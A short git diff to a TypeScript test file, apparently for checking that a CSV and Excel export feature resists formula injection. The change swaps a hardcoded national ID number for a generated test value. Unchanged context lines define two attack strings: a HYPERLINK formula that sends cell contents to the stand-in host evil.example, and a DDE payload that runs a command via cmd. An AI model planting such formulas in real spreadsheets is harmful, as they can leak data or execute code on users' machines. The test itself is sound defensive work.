@@ -2,6 +2,7 @@ import { parse as parseCsv } from "csv-parse/sync";
 import readXlsxFile from "read-excel-file/node";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import writeXlsxFile, { type SheetData } from "write-excel-file/node";
+import { testNik } from "../support/nik.ts";
 import { bearer, DEMO, login, startStack, type TestStack } from "../support/stack.ts";
 import { xlsxCells, xlsxStyleFormats } from "../support/xlsx.ts";
 
@@ -19,7 +20,7 @@ const API = "/api/main/v1";
 const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
 const LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
 const PAYLOAD = "=cmd|' /C calc'!A0";
-const NIK = "3201234567890123";
+const NIK = testNik(61_000_123);
 
 beforeAll(async () => {
   stack = await startStack();
